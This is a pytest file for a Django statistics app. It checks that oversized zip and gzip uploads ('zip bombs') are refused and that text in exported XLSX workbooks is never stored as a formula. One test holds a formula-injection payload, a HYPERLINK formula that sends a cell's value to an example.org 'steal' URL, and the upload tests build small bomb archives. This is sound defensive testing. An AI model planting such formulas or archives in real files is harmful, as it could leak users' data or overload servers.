"""Files in and out: a compressed upload that unpacks to far more than the size limit is refused before it
is read (a "zip bomb"), and text in the open-data workbook stays text (never a live formula)."""

from __future__ import annotations

import gzip
import io
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from mangfold.web.assessments.legacy import import_legacy
from mangfold.web.statistics import forms
from mangfold.web.statistics.models import Dataset
from tests.conftest import STATISTICS_CSV

pytestmark = pytest.mark.django_db

TOKEN = "securityfilestoken0123456789abcd"
UPLOAD = "/en/statistics/cities/city-a/upload/"


def upload(client: Any, name: str, content: bytes, lang: str = "en") -> Any:
    client.cookies["csrftoken"] = TOKEN
    data = {
        "scheme": "dst_origin",
        "name": "Aby bomb",
        "source": "Nowhere",
        "file": SimpleUploadedFile(name, content),
    }
    return client.post(UPLOAD.replace("/en/", f"/{lang}/"), data, HTTP_X_CSRFTOKEN=TOKEN)


def zipped(size: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * size)
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bomb.csv.gz", gzip.compress(STATISTICS_CSV.encode() + b"0" * 100_000)),
        ("bomb.xlsx", zipped(100_000)),
    ],
)
def test_an_upload_that_unpacks_beyond_the_limit_is_refused(
    world: Any, client_for: Callable[[str], Any], monkeypatch: Any, name: str, content: bytes
) -> None:
    monkeypatch.setattr(forms, "MAX_UNPACKED_BYTES", 52_428)
    assert len(content) < 52_428
    response = upload(client_for("coordinator"), name, content)
    assert response.status_code == 400
    assert "The file is larger than 0.05 MB once unpacked." in response.content.decode()
    assert not Dataset.objects.filter(name="Aby bomb").exists()
    danish = upload(client_for("coordinator"), name, content, lang="da").content.decode()
    assert "Filen fylder mere end 0,05 MB, når den er pakket ud." in danish


def test_a_compressed_upload_within_the_limit_is_imported(
    world: Any, client_for: Callable[[str], Any], monkeypatch: Any
) -> None:
    monkeypatch.setattr(forms, "MAX_UNPACKED_BYTES", 52_428)
    response = upload(client_for("coordinator"), "aby.csv.gz", gzip.compress(STATISTICS_CSV.encode()))
    assert response.status_code == 302
    assert Dataset.objects.get(name="Aby bomb").rows == 20


def test_a_damaged_archive_is_left_to_the_readers_to_name(
    world: Any, client_for: Callable[[str], Any]
) -> None:
    response = upload(client_for("coordinator"), "aby.xlsx", b"PK\x03\x04 not really a workbook")
    assert response.status_code == 400
    assert "once unpacked" not in response.content.decode()


def test_text_in_the_open_data_workbook_is_never_a_formula(
    world: Any, client_for: Callable[[str], Any]
) -> None:
    formula = '=HYPERLINK("https://example.org/steal?"&A2,"Click")'
    import_legacy(
        "network,round,city,overall,source,note\n"
        f'test-network,2014,city-b,70,"+Report, 2014","{formula.replace(chr(34), chr(34) * 2)}"\n'
    )
    response = client_for("anonymous").get("/en/results/test-network/2014/export.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    row = {header[i]: cell for i, cell in enumerate(sheet[2])}
    assert (row["Note"].value, row["Note"].data_type) == (formula, "s")
    assert (row["Source"].value, row["Source"].data_type) == ("+Report, 2014", "s")
    assert row["Overall score"].data_type == "n"
